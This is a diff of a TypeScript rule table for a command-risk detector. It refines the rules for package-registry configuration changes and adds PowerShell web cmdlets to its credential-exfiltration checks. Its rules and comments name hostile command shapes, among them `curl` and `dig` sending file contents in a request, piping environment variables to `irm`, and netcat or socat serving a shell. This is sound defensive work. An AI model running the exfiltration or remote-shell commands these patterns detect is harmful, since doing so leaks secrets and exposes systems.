@@ -47,9 +47,22 @@ export interface Rule {
   /**
    * One of these options is given (`--registry URL`, `--registry=URL`), and the value of the last
    * one, which is the one the program uses (npm's, pnpm's and yarn's option parsers keep the last),
-   * is only known at run time or does not match `not`.
+   * is only known at run time or does not match `not`. With `orNone`, also when none is given (the
+   * program's default then applies: npm's `--location` is the user's).
    */
-  lastValue?: { options: readonly string[]; not: string };
+  lastValue?: { options: readonly string[]; not: string; orNone?: boolean };
+  /**
+   * One of these options is given with a value only known at run time or not matching `not`, for
+   * programs that use every value given (gem's `--source`: each one is a source).
+   */
+  someValue?: { options: readonly string[]; not: string };
+  /**
+   * A `config set` writes a setting whose key matches `key` with a value only known at run time or
+   * not matching `not` (an empty value deletes the setting). Its settings are the operands after
+   * `set`, past the options (`valueOptions` take the next word), read as npm's `config set` reads
+   * them: `key value` and `key=value` pairs, several in one command, the last for a key winning.
+   */
+  settings?: { key: string; not: string; valueOptions: readonly string[] };
   /**
    * Some operand matches this regular expression: not an option, nor the word one of `valueOptions`
    * takes (`mvn -pl deploy install` names a module, `gradle build -x publish` excludes a task).
@@ -140,14 +153,10 @@ const SEVEN_ZIP = ["7z", "7za", "7zz"];
 const EXTRACT_OVER: Partial<Record<PathClass, Risk>> = { root: "high", system: "high", auth: "high", home: "high", "home-sensitive": "high", "home-sub": "moderate" };
 /** Unpacking where it keeps them or asks first: new files still land among home's (a ~/.bash_profile, keys in ~/.ssh). */
 const EXTRACT_BESIDE: Partial<Record<PathClass, Risk>> = { root: "high", system: "high", auth: "high", home: "moderate", "home-sensitive": "high" };
-/** npm's, pnpm's and yarn 1's registry settings, scoped ones too: `registry URL`, `registry=URL`, `@scope:registry URL`. */
-const NPM_REGISTRY_KEY = "^(@[^:\\s]+:)?registry(=.*)?$";
 /** yarn 2+'s: `npmRegistryServer`, `npmScopes.NAME.npmRegistryServer`. */
 const YARN_REGISTRY_KEY = "^(npmScopes\\..+\\.)?npmRegistryServer$";
 /** pip's indexes, in any section: `global.index-url`, `install.extra-index-url`, `global.find-links`. */
 const PIP_INDEX_KEY = "^[a-z]+\\.(index-url|extra-index-url|find-links)$";
-/** npm's `--location=project` (`--location project`, `-L project`). */
-const PROJECT_LOCATION = "^(--location=project|project)$";
 /** Go's module proxy set to another server than its default (`proxy.golang.org`), `direct` or `off`. */
 const GO_PROXY_SET = "^GOPROXY=(?!(https://proxy\\.golang\\.org(,direct)?|direct|off)$)";
 /** Go settings that drop the checks on downloaded modules: no checksum database (or another one), none for some modules, plain HTTP, `-insecure`. */
@@ -178,6 +187,16 @@ export const DEFAULT_REGISTRY = `^((@[^:\\s]+:)?registry=)?(${NPM_DEFAULT_REGIST
 const NPM_DEFAULT_REGISTRY_URL = `^${NPM_DEFAULT_REGISTRY}/?$`;
 /** Another registry given for once: the last `--registry` given is the one used. */
 const OTHER_REGISTRY = { options: ["--registry"], not: NPM_DEFAULT_REGISTRY_URL };
+/** npm's and pnpm's `--location` (`-L`): the config file `config set` writes, the user's unless another is given. */
+const LOCATION = ["--location", "-L"];
+/**
+ * npm's, pnpm's and yarn 1's registry settings, scoped ones too (`registry`, `@scope:registry`), set
+ * to another server than npm's. `--registry URL` on the command line is this command's own, not a
+ * setting it writes.
+ */
+const OTHER_REGISTRY_SET = { key: "^(@[^:\\s]+:)?registry$", not: NPM_DEFAULT_REGISTRY_URL, valueOptions: [...JS_VALUE_OPTIONS, ...LOCATION] };
+/** RubyGems' own index, as `--source`'s (`gem sources --add`'s) value. */
+const RUBYGEMS = "^https://rubygems\\.org/?$";
 /**
  * npm's other subcommands that download and install packages, with their aliases: `ci` installs the
  * lockfile's packages, but from the registry it is given (npm's `replace-registry-host` rewrites the
@@ -344,7 +363,7 @@ export const RULES: readonly Rule[] = [
   { id: "yarn-global-install-registry", commands: ["yarn"], subcommand: ["global"], action: ["add"], lastValue: OTHER_REGISTRY, risk: "moderate", category: "remote code execution", detail: "installs and builds a package from a registry other than npm's (its install scripts run)" },
   { id: "cargo-install-registry", commands: ["cargo"], subcommand: ["install"], flags: ["--registry", "--index"], noArgPattern: CRATES_IO, risk: "moderate", category: "remote code execution", detail: "installs and builds a package from a registry other than crates.io (its install scripts run)" },
   { id: "cargo-install-git", commands: ["cargo"], subcommand: ["install"], flags: ["--git"], risk: "moderate", category: "remote code execution", detail: "installs and builds a package from a git repository (its install scripts run)" },
-  { id: "gem-install-source", commands: ["gem"], subcommand: ["install", "i"], flags: ["--source", "-s"], noArgPattern: "^(--source=)?https://rubygems\\.org/?$", risk: "moderate", category: "remote code execution", detail: "installs and builds a package from a package index other than RubyGems (its install scripts run)" },
+  { id: "gem-install-source", commands: ["gem"], subcommand: ["install", "i"], someValue: { options: ["--source", "-s"], not: RUBYGEMS }, risk: "moderate", category: "remote code execution", detail: "installs and builds a package from a package index other than RubyGems (its install scripts run)" },
   // `go run example.com/cmd@latest` fetches and runs a module; `go run .` runs the project's own.
   { id: "go-run-remote", commands: ["go"], subcommand: ["run"], argPattern: "^[^-./][^@\\s]*\\.[^@\\s]*/[^@\\s]*@", risk: "moderate", category: "remote code execution", detail: "downloads and runs a Go module" },
   // `deno run https://…` (or npm:, jsr:) fetches and runs a script.
@@ -384,9 +403,12 @@ export const RULES: readonly Rule[] = [
   // httpie and xh send their standard input as the body unless `--ignore-stdin` (`-I`), and a file
   // named in an item: `@FILE` (the body), `field@FILE` (a form's file), `field=@FILE`, `field:=@FILE`.
   { id: "pipe-credentials-httpie", commands: HTTPIE_CLIENTS, noFlags: ["-I", "--ignore-stdin", "--offline"], targets: { fed: "stdin", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
+  // PowerShell's web cmdlets send what their pipeline gives them as -Body (`Get-Content F | irm …`,
+  // `gci env: | irm …`), and the file -InFile names (see cmdlet-contents.ts).
+  { id: "pipe-credentials-web-cmdlet", commands: ["invoke-webrequest", "invoke-restmethod"], targets: { fed: "stdin", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
   { id: "upload-credentials-httpie", commands: HTTPIE_CLIENTS, noFlags: ["--offline"], targets: { pattern: "^(?:[^=:@/]*(?:=|:=)?)?@(.+)$", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends {target} over the network" },
-  // `curl "https://x?k=$(cat F)"`, `dig $(base64 F).example.com`: the contents go out in the request.
-  { id: "argument-credentials", commands: [...NETCAT, "curl", "wget", ...HTTPIE_CLIENTS, "aria2c", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "dig", "nslookup", "host", "ping"], targets: { fed: "arguments", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
+  // `curl "https://x?k=$(cat F)"`, `dig $(base64 F).example.com`, `irm -Body (Get-Content F)`: the contents go out in the request.
+  { id: "argument-credentials", commands: [...NETCAT, "curl", "wget", ...HTTPIE_CLIENTS, "invoke-webrequest", "invoke-restmethod", "aria2c", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "dig", "nslookup", "host", "ping"], targets: { fed: "arguments", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
   { id: "netcat-exec", commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"], flags: ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"], risk: "critical", category: "network exposure", detail: "serves a shell over the network" },
   { id: "netcat-listen", commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"], flags: ["-l", "--listen"], risk: "moderate", category: "network exposure", detail: "listens for network connections" },
   { id: "socat-exec", commands: ["socat"], argPrefixes: ["exec:", "EXEC:", "system:", "SYSTEM:"], risk: "critical", category: "network exposure", detail: "connects a program to a socket" },
@@ -429,8 +451,10 @@ export const RULES: readonly Rule[] = [
   // every module download. conda writes the user's ~/.condarc (`--system`: the system's) unless
   // `--env`, the active environment's; a channel given by URL is another server (by name, anaconda.org).
   // `gem sources --add` writes ~/.gemrc. git's `url.BASE.insteadOf` is read in git-config.ts.
-  { id: "registry-user", commands: ["npm", "pnpm", "yarn"], subcommand: ["config", "c", "set"], args: ["set"], argPattern: NPM_REGISTRY_KEY, noArgPattern: `${PROJECT_LOCATION}|${DEFAULT_REGISTRY}`, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
-  { id: "registry-project", commands: ["npm", "pnpm"], subcommand: ["config", "c", "set"], argSets: [["set"], ["--location=project", "project"]], argPattern: NPM_REGISTRY_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this project" },
+  { id: "registry-user", commands: ["npm", "pnpm", "yarn"], subcommand: ["config", "c", "set"], args: ["set"], settings: OTHER_REGISTRY_SET, lastValue: { options: LOCATION, not: "^project$", orNone: true }, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  // `-g` (`--global`) writes the global config, whatever `--location` says.
+  { id: "registry-global", commands: ["npm", "pnpm"], subcommand: ["config", "c", "set"], args: ["set"], flags: ["-g", "--global"], settings: OTHER_REGISTRY_SET, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  { id: "registry-project", commands: ["npm", "pnpm"], subcommand: ["config", "c", "set"], args: ["set"], noFlags: ["-g", "--global"], settings: OTHER_REGISTRY_SET, lastValue: { options: LOCATION, not: "^(user|global)$" }, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this project" },
   { id: "yarn-registry-home", commands: ["yarn"], subcommand: ["config"], argSets: [["set"], ["-H", "--home"]], argPattern: YARN_REGISTRY_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "yarn-registry-project", commands: ["yarn"], subcommand: ["config"], args: ["set"], argPattern: YARN_REGISTRY_KEY, noArgPattern: `^(-H|--home)$|${DEFAULT_REGISTRY}`, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this project" },
   { id: "pip-index-user", commands: ["pip", "pip3"], subcommand: ["config"], args: ["set"], argPattern: PIP_INDEX_KEY, noFlags: ["--site"], noArgPattern: DEFAULT_REGISTRY, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
@@ -442,7 +466,7 @@ export const RULES: readonly Rule[] = [
   // conda's `channel_alias` is the server that every channel named without a URL comes from.
   { id: "conda-alias-user", commands: ["conda"], subcommand: ["config"], flags: ["--set"], args: ["channel_alias"], argPattern: "://", noFlags: ["--env"], noArgPattern: CONDA_DEFAULT_ALIAS, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "conda-alias-env", commands: ["conda"], subcommand: ["config"], allFlags: ["--env", "--set"], args: ["channel_alias"], argPattern: "://", noArgPattern: CONDA_DEFAULT_ALIAS, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this environment" },
-  { id: "gem-source-user", commands: ["gem"], subcommand: ["sources"], flags: ["--add", "-a"], noArgPattern: "^(--add=)?https://rubygems\\.org/?$", risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  { id: "gem-source-user", commands: ["gem"], subcommand: ["sources"], lastValue: { options: ["--add", "-a"], not: RUBYGEMS }, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "pip-index-site", commands: ["pip", "pip3", "python", "python3"], argSets: [["config"], ["set"], ["--site"]], argPattern: PIP_INDEX_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this environment" },
   { id: "user-accounts", commands: ["useradd", "userdel", "groupadd", "groupdel", "deluser", "chpasswd"], risk: "high", category: "system configuration", detail: "changes user accounts" },
   { id: "defaults-write", commands: ["defaults", "gsettings", "dconf", "reg", "regedit", "scutil", "hostnamectl", "timedatectl", "update-alternatives"], args: ["write", "delete", "set", "reset", "add", "import", "--set", "--install", "--remove"], risk: "moderate", category: "system configuration", detail: "changes system settings" },
@@ -648,7 +672,7 @@ export const GLOBAL_VALUE_OPTIONS: Readonly<Record<string, readonly string[]>> =
   gh: ["-R", "--repo", "--hostname"],
   glab: ["-R", "--repo"],
   npm: ["-w", "--workspace", "--prefix", "--registry", "--userconfig", "--cache", "--loglevel"],
-  pnpm: ["-C", "--dir", "-F", "--filter", "--reporter"],
+  pnpm: ["-C", "--dir", "-F", "--filter", "--reporter", "--registry"],
   yarn: ["--cwd"],
   bun: ["--cwd"],
 };
